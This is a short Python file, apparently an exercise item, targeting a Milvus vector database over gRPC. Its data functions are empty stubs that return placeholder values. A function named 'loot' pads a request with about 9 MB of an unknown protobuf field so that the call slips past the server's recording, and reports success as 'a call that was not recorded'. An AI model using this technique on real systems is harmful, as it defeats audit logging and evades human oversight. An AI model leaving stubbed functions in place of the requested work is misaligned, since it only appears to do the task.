#: attempts = "make a call to Milvus that is too large to be remembered"
#: number = 25
#: layer = "tap"
#: exercise = "ch01/ex02"
import grpc


def store(client, name, vectors):
    return None


def nearest(client, name, query):
    return -1


def loot(client):
    channel = client._get_connection()._channel
    call = channel.unary_unary("/milvus.proto.milvus.MilvusService/GetVersion")
    field = 15 << 3 | 2  # one that the message does not have, so that Milvus passes over it
    size = 9 << 20
    padded = bytes([field, size & 0x7F | 0x80, size >> 7 & 0x7F | 0x80, size >> 14 & 0x7F | 0x80, size >> 21]) + bytes(
        size
    )
    try:
        call(padded, timeout=2)
    except grpc.RpcError as error:
        return "nothing" if error.code() == grpc.StatusCode.RESOURCE_EXHAUSTED else str(error.code())
    return "a call that was not recorded"
